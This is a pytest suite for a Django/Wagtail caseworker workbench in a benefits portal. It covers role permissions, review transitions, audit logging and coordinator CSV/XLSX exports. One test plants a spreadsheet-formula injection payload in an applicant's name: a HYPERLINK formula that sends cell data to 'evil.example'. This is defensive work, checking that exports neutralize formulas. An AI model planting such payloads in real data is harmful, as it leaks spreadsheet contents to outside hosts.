"""The caseworker workbench: who may see and do what, every transition and its guard,
the audit log, the coordinators' export and a flat queue listing."""

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.http import StreamingHttpResponse
from django.utils import timezone
from wagtail.models import ModelLogEntry

from applications import state_machine
from applications.casework.actions import add_note, override_service_areas
from applications.documents.storage import add_documents
from applications.models import Household, ProgramApplication, ProgramCoordinator
from applications.state_machine import TransitionError
from applications.tests.conftest import make_applicant, make_household
from portal import roles
from programs.models import ProgramPage, QualifyingProgram

pytestmark = pytest.mark.django_db
QUEUE = "/admin/applications/household/"
ENROLLMENTS = "/admin/applications/programapplication/"


def staff(email, group=None, **fields):
    user = get_user_model().objects.create_user(
        email=email, password="staff-password-123", is_staff=True, **fields
    )
    if group:
        user.groups.add(Group.objects.get(name=group))
    return user


@pytest.fixture
def world(demo_content):
    snap = QualifyingProgram.objects.get(name="SNAP")
    grocery = ProgramPage.objects.canonical().get(slug="grocery-tax-rebate")
    bike = ProgramPage.objects.canonical().get(slug="bike-share-membership")
    household = make_household(qualifying=[snap], submit=True)
    for program in (grocery, bike):
        ProgramApplication.objects.get_or_create(household=household, program=program)
    coordinator = staff("coordinator@example.com", roles.PROGRAM_COORDINATORS)
    ProgramCoordinator.objects.create(user=coordinator).programs.set([grocery])
    other_coordinator = staff("bikes@example.com", roles.PROGRAM_COORDINATORS)
    ProgramCoordinator.objects.create(user=other_coordinator).programs.set([bike])
    return {
        "household": household,
        "grocery": grocery,
        "bike": bike,
        "caseworker": staff("caseworker@example.com", roles.VERIFICATION_STAFF),
        "coordinator": coordinator,
        "other_coordinator": other_coordinator,
        "editor": staff("editor@example.com", roles.CONTENT_EDITORS),
        "admin": staff("admin@example.com", is_superuser=True),
    }


REFUSED = (302, 403)  # Wagtail redirects to the admin home with a message, or 403s


def status_for(client, user, url, method="get", data=None):
    client.force_login(user)
    response = getattr(client, method)(url, data or {})
    client.logout()
    return response.status_code


# --- Permission matrix ----------------------------------------------------------


def test_an_applicant_cannot_open_any_households_history(client, world):
    household = world["household"]
    other = make_household(make_applicant("zoe@example.com"), submit=True)
    for target in (household, other):
        response = status_for(
            client, household.user, f"/admin/households/{target.pk}/history/"
        )
        assert response in (302, 403)


def test_verification_staff_see_the_queue_household_and_documents(client, world):
    household, caseworker = world["household"], world["caseworker"]
    document = household.documents.first()
    assert status_for(client, caseworker, QUEUE) == 200
    assert status_for(client, caseworker, f"{QUEUE}inspect/{household.pk}/") == 200
    history = f"/admin/households/{household.pk}/history/"
    assert status_for(client, caseworker, history) == 200
    assert status_for(client, caseworker, f"/documents/{document.public_id}/") == 200
    assert (
        status_for(client, caseworker, f"/admin/households/{household.pk}/note/") == 200
    )
    assert status_for(client, caseworker, ENROLLMENTS) in REFUSED


def test_the_queue_holds_every_household_ever_submitted_and_no_other(client, world):
    never = make_household(make_applicant("never@example.com", last_name="Nunca"))
    reopened = make_household(
        make_applicant("again@example.com", last_name="Otra"), submit=True
    )
    state_machine.change_answers(reopened, reopened.user, "A new baby.")
    client.force_login(world["caseworker"])
    listed = client.get(QUEUE, {"queue": "all"}).context["object_list"]
    assert {h.pk for h in listed} == {world["household"].pk, reopened.pk}
    for term in ("never@example.com", "Nunca"):
        assert not client.get(QUEUE, {"q": term}).context["object_list"]
    assert never.review_status == Household.ReviewStatus.DRAFT


@pytest.mark.parametrize("role", ["coordinator", "editor"])
def test_coordinators_and_editors_cannot_open_households_or_documents(
    client, world, role
):
    household, user = world["household"], world[role]
    document = household.documents.first()
    assert status_for(client, user, QUEUE) in REFUSED
    assert status_for(client, user, f"{QUEUE}inspect/{household.pk}/") in REFUSED
    history = f"/admin/households/{household.pk}/history/"
    assert status_for(client, user, history) in REFUSED
    assert status_for(client, user, f"/documents/{document.public_id}/") == 404
    for action in ["verify", "deny", "note", "request-information"]:
        url = f"/admin/households/{household.pk}/{action}/"
        assert status_for(client, user, url) in REFUSED
        assert (
            status_for(client, user, url, "post", {"reason": "x", "text": "x"})
            in REFUSED
        )
    household.refresh_from_db()
    assert household.review_status == Household.ReviewStatus.SUBMITTED
    assert not household.notes.exists()


def test_editor_sees_no_applicant_data_but_edits_pages(client, world):
    editor, grocery = world["editor"], world["grocery"]
    assert status_for(client, editor, ENROLLMENTS) in REFUSED
    assert (
        status_for(client, editor, "/admin/applications/programcoordinator/") in REFUSED
    )
    assert status_for(client, editor, f"/admin/pages/{grocery.pk}/edit/") == 200
    client.force_login(editor)
    home = client.get("/admin/").content.decode()
    assert "Applications at a glance" not in home
    assert world["household"].user.email not in home


def test_verification_staff_cannot_edit_cms_pages(client, world):
    url = f"/admin/pages/{world['grocery'].pk}/edit/"
    assert status_for(client, world["caseworker"], url) in REFUSED


def test_coordinator_sees_only_verified_households_of_their_programs(client, world):
    household, coordinator = world["household"], world["coordinator"]
    client.force_login(coordinator)
    before = client.get(ENROLLMENTS)
    assert before.status_code == 200
    assert household.user.email not in before.content.decode()  # not verified yet

    state_machine.verify(household, world["caseworker"])
    content = client.get(ENROLLMENTS).content.decode()
    assert household.user.email in content
    assert "Grocery Tax Rebate" in content
    assert "Bike Share Membership" not in content


def test_coordinator_of_program_a_sees_nothing_of_program_b(world):
    state_machine.verify(world["household"], world["caseworker"])
    visible = ProgramApplication.objects.for_coordinator(world["coordinator"])
    other = ProgramApplication.objects.for_coordinator(world["other_coordinator"])
    assert {a.program.slug for a in visible} == {"grocery-tax-rebate"}
    assert {a.program.slug for a in other} == {"bike-share-membership"}
    assert not ProgramApplication.objects.for_coordinator(world["editor"]).exists()


def test_coordinator_cannot_decide_another_programs_application(client, world):
    state_machine.verify(world["household"], world["caseworker"])
    bike_application = ProgramApplication.objects.get(program=world["bike"])
    status_for(
        client,
        world["coordinator"],
        "/admin/enrollments/bulk/",
        "post",
        {"selected": [bike_application.pk], "decision": "enroll"},
    )
    bike_application.refresh_from_db()
    assert bike_application.status == ProgramApplication.Status.APPLIED


def test_only_administrators_manage_coordinator_scopes(client, world):
    url = "/admin/applications/programcoordinator/"
    assert status_for(client, world["admin"], url) == 200
    for role in ["caseworker", "coordinator", "editor"]:
        assert status_for(client, world[role], url) in REFUSED


# --- Transitions and guards -------------------------------------------------------


def test_verify_needs_every_document(world):
    household = world["household"]
    household.documents.filter(kind="proof").delete()
    with pytest.raises(TransitionError):
        state_machine.verify(household, world["caseworker"])
    household.refresh_from_db()
    assert household.review_status == Household.ReviewStatus.SUBMITTED


def test_verify_needs_a_decided_address(world):
    household, caseworker = world["household"], world["caseworker"]
    household.address_needs_review = True
    household.save()
    with pytest.raises(TransitionError):
        state_machine.verify(household, caseworker)
    with pytest.raises(TransitionError):
        override_service_areas(household, caseworker, [], reason="  ")
    override_service_areas(
        household, caseworker, [], reason="Confirmed by phone: outside city"
    )
    state_machine.verify(household, caseworker)
    assert household.review_status == Household.ReviewStatus.VERIFIED
    assert household.address_override_reason.startswith("Confirmed by phone")


def test_request_information_round_trip_returns_to_the_queue(world):
    from applications.tests.conftest import png_upload

    household, caseworker = world["household"], world["caseworker"]
    request = state_machine.request_information(
        household, caseworker, "A recent utility bill, please."
    )
    assert household.review_status == Household.ReviewStatus.INFO_REQUESTED
    with pytest.raises(TransitionError):
        state_machine.verify(household, caseworker)
    with pytest.raises(TransitionError):  # nothing uploaded yet
        state_machine.respond_to_information_request(household, household.user)

    saved, refused = add_documents(
        household,
        [png_upload("bill.png")],
        kind="requested",
        information_request=request,
    )
    state_machine.respond_to_information_request(household, household.user)

    assert (saved, refused) == (1, [])
    assert household.review_status == Household.ReviewStatus.SUBMITTED
    state_machine.verify(household, caseworker)
    assert household.review_status == Household.ReviewStatus.VERIFIED


def test_deny_needs_a_reason_and_reopen_returns_to_the_queue(world):
    household, caseworker = world["household"], world["caseworker"]
    with pytest.raises(TransitionError):
        state_machine.deny(household, caseworker, "")
    state_machine.deny(household, caseworker, "The ID does not match the applicant.")
    assert household.review_status == Household.ReviewStatus.DENIED
    with pytest.raises(TransitionError):
        state_machine.verify(household, caseworker)
    state_machine.reopen(household, caseworker)
    assert household.review_status == Household.ReviewStatus.SUBMITTED
    with pytest.raises(TransitionError):
        state_machine.reopen(household, caseworker)


def test_cannot_enroll_an_unverified_household(world):
    application = ProgramApplication.objects.get(program=world["grocery"])
    with pytest.raises(TransitionError):
        state_machine.enroll(application, world["coordinator"])
    application.refresh_from_db()
    assert application.status == ProgramApplication.Status.APPLIED


def test_enroll_and_not_enroll_after_verification(world):
    state_machine.verify(world["household"], world["caseworker"])
    grocery = ProgramApplication.objects.get(program=world["grocery"])
    bike = ProgramApplication.objects.get(program=world["bike"])
    assert state_machine.enroll(grocery, world["coordinator"]) is True
    assert grocery.enrolled_at is not None
    assert (
        state_machine.enroll(grocery, world["coordinator"]) is False
    )  # already enrolled
    with pytest.raises(TransitionError):
        state_machine.not_enroll(bike, world["other_coordinator"], "")
    state_machine.not_enroll(
        bike, world["other_coordinator"], "No bikes at that station yet."
    )
    assert bike.status == ProgramApplication.Status.NOT_ENROLLED


def test_action_views_refuse_with_a_message_not_an_error(client, world):
    household = world["household"]
    household.documents.filter(kind="proof").delete()
    client.force_login(world["caseworker"])
    response = client.post(f"/admin/households/{household.pk}/verify/", {})
    assert response.status_code == 200
    assert "Documents are missing" in response.content.decode()
    response = client.post(f"/admin/households/{household.pk}/deny/", {"reason": ""})
    assert response.status_code == 200
    household.refresh_from_db()
    assert household.review_status == Household.ReviewStatus.SUBMITTED


def test_action_views_run_the_transition_and_redirect(client, world):
    household = world["household"]
    client.force_login(world["caseworker"])
    response = client.post(f"/admin/households/{household.pk}/verify/", {})
    assert response.status_code == 302
    household.refresh_from_db()
    assert household.review_status == Household.ReviewStatus.VERIFIED


# --- Audit -----------------------------------------------------------------------


def test_every_staff_action_is_logged_with_who(client, world):
    household, caseworker = world["household"], world["caseworker"]
    add_note(household, caseworker, "Called the applicant.")
    state_machine.request_information(household, caseworker, "Proof of address")
    state_machine.deny(household, caseworker, "No response")
    state_machine.reopen(household, caseworker)
    client.force_login(caseworker)
    client.get(f"/documents/{household.documents.first().public_id}/")

    entries = ModelLogEntry.objects.for_instance(household)
    closed = entries.filter(action="applications.closed_by_denial")
    # The denial closed each application that was waiting for staff, as its own entry.
    assert closed.count() == household.program_applications.count() >= 2
    actions = list(
        entries.exclude(pk__in=closed)
        .order_by("timestamp")
        .values_list("action", flat=True)
    )
    assert actions == [
        "applications.add_note",
        "applications.request_information",
        "applications.deny",
        "applications.reopen",
        "applications.view_document",
    ]
    assert set(entries.values_list("user_id", flat=True)) == {caseworker.pk}


def test_history_and_notes_show_on_the_household_page_not_to_the_applicant(
    client, world
):
    household, caseworker = world["household"], world["caseworker"]
    add_note(household, caseworker, "Internal: looks like a duplicate account")
    client.force_login(caseworker)
    page = client.get(f"{QUEUE}inspect/{household.pk}/").content.decode()
    assert "Internal: looks like a duplicate account" in page
    assert f"/admin/households/{household.pk}/history/" in page
    history = client.get(f"/admin/households/{household.pk}/history/")
    assert "Added an internal note" in history.content.decode()
    client.force_login(household.user)
    assert "duplicate account" not in client.get("/dashboard/").content.decode()


def test_enrollment_decisions_are_logged_on_the_household(world):
    state_machine.verify(world["household"], world["caseworker"])
    state_machine.enroll(
        ProgramApplication.objects.get(program=world["grocery"]), world["coordinator"]
    )
    entry = ModelLogEntry.objects.for_instance(world["household"]).get(
        action="applications.enroll"
    )
    assert entry.user_id == world["coordinator"].pk
    assert entry.data["program"] == "Grocery Tax Rebate"


# --- Coordinators' export and the queue listing -------------------------------------


def test_csv_export_streams_and_holds_only_the_coordinators_programs(client, world):
    state_machine.verify(world["household"], world["caseworker"])
    client.force_login(world["coordinator"])
    response = client.get(ENROLLMENTS, {"export": "csv"})
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content).decode()
    assert "Grocery Tax Rebate" in body
    assert "Bike Share Membership" not in body
    assert world["household"].user.email in body


def test_csv_export_neutralizes_spreadsheet_formulas(client, world):
    import csv
    import io

    household = world["household"]
    state_machine.verify(household, world["caseworker"])
    user = household.user
    user.first_name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    user.last_name = "@SUM(1+1)"
    user.email = "-2+3@example.com"
    user.save()
    household.mailing_is_different = True
    household.mailing_street = "+1 Main St"
    household.mailing_city, household.mailing_state = "Fairview", "CO"
    household.mailing_zip_code = "80521"
    household.save()
    client.force_login(world["coordinator"])
    response = client.get(ENROLLMENTS, {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    [row] = [row for row in rows[1:] if "Grocery Tax Rebate" in row]
    assert row[0] == "'" + user.get_full_name()
    assert row[1] == "'-2+3@example.com"
    assert row[3].startswith("'+1 Main St")
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_bulk_enroll_marks_enrolled_and_the_dashboard_shows_it(client, world):
    state_machine.verify(world["household"], world["caseworker"])
    grocery = ProgramApplication.objects.get(program=world["grocery"])
    client.force_login(world["coordinator"])
    client.post(
        "/admin/enrollments/bulk/", {"selected": [grocery.pk], "decision": "enroll"}
    )
    grocery.refresh_from_db()
    assert grocery.status == ProgramApplication.Status.ENROLLED
    client.force_login(world["household"].user)
    dashboard = client.get("/dashboard/")
    assert [a.program.slug for a in dashboard.context["enrolled"]] == [
        "grocery-tax-rebate"
    ]
    assert "Renew by" in dashboard.content.decode()


@pytest.mark.parametrize("count", [3, 20])
def test_queue_listing_query_count_does_not_grow_with_households(
    client, world, count, django_assert_max_num_queries
):
    snap = QualifyingProgram.objects.get(name="SNAP")
    for number in range(count):
        household = make_household(
            make_applicant(f"a{number}@example.com"), qualifying=[snap], submit=True
        )
        ProgramApplication.objects.get_or_create(
            household=household, program=world["grocery"]
        )
    client.force_login(world["caseworker"])
    client.get(QUEUE)
    with django_assert_max_num_queries(30):
        response = client.get(QUEUE)
    assert response.status_code == 200
    assert response.context["result_count"] == count + 1


def test_queue_filters_and_search(client, world):
    household = world["household"]
    other = make_household(
        make_applicant("zed@example.com", first_name="Zed"), submit=True
    )
    state_machine.request_information(other, world["caseworker"], "ID please")
    client.force_login(world["caseworker"])

    def listed(params):
        response = client.get(QUEUE, params)
        return {h.pk for h in response.context["object_list"]}

    assert listed({}) == {household.pk}
    assert listed({"queue": "awaiting_applicant"}) == {other.pk}
    assert listed({"queue": "all"}) == {household.pk, other.pk}
    assert listed({"queue": "all", "q": "zed@"}) == {other.pk}


def _exported_rows(client, export_format):
    import csv
    import io

    response = client.get(ENROLLMENTS, {"export": export_format})
    if export_format == "csv":
        body = b"".join(response.streaming_content).decode()
        return list(csv.reader(io.StringIO(body)))
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_each_exported_row_says_what_the_listing_says(client, world, export_format):
    from applications.casework.admin import ProgramApplicationAdmin

    state_machine.verify(world["household"], world["caseworker"])
    other = make_household(
        make_applicant(
            "zoe@example.com", first_name="Zoë", phone_number="+19702216600"
        ),
        submit=True,
    )
    other.mailing_is_different = True
    other.mailing_street, other.mailing_city = "PO Box 12", "Fairview"
    other.mailing_state, other.mailing_zip_code = "CO", "80522"
    other.save()
    state_machine.verify(other, world["caseworker"])
    ProgramApplication.objects.get_or_create(household=other, program=world["grocery"])
    client.force_login(world["admin"])

    header, *rows = _exported_rows(client, export_format)
    admin = ProgramApplicationAdmin()
    applications = ProgramApplication.objects.for_coordinator(world["admin"]).order_by(
        "applied_at", "pk"
    )
    assert len(rows) == applications.count() >= 3
    for row, application in zip(rows, applications, strict=True):
        expected = [
            admin.applicant_name(application),
            application.household.user.email,
            admin.phone(application),
            admin.mailing_address(application),
            admin.program_title(application),
            admin.status_label(application),
        ]
        cells = [
            ("" if cell is None else str(cell)).removeprefix("'") for cell in row[:6]
        ]
        assert cells == [str(value) for value in expected]


def test_exports_read_rows_in_one_query_whatever_their_number(
    client, world, django_assert_max_num_queries
):
    snap = QualifyingProgram.objects.get(name="SNAP")
    for number in range(30):
        household = make_household(
            make_applicant(f"n{number}@example.com"), qualifying=[snap], submit=True
        )
        state_machine.verify(household, world["caseworker"])
        ProgramApplication.objects.get_or_create(
            household=household, program=world["grocery"]
        )
    client.force_login(world["admin"])
    for export_format in ("csv", "xlsx"):
        with django_assert_max_num_queries(12):
            response = client.get(ENROLLMENTS, {"export": export_format})
            b"".join(response.streaming_content)


def test_xlsx_export_has_bold_headings_kept_in_view_and_dates_as_dates(client, world):
    state_machine.verify(world["household"], world["caseworker"])
    client.force_login(world["admin"])
    response = client.get(ENROLLMENTS, {"export": "xlsx"})
    import io

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].value == "Applicant" and sheet["A1"].font.b
    applied = sheet["G2"]
    assert sheet["G1"].value == "Applied At" and applied.is_date
    application = ProgramApplication.objects.for_coordinator(world["admin"]).earliest(
        "applied_at", "pk"
    )
    local = timezone.localtime(application.applied_at).replace(tzinfo=None)
    assert abs((applied.value - local).total_seconds()) < 1


def test_xlsx_export_never_writes_a_formula(client, world):
    household = world["household"]
    state_machine.verify(household, world["caseworker"])
    household.user.first_name = "=HYPERLINK(1)"
    household.user.save()
    client.force_login(world["coordinator"])
    response = client.get(ENROLLMENTS, {"export": "xlsx"})
    import io

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s"
    assert cell.value.startswith("=HYPERLINK")
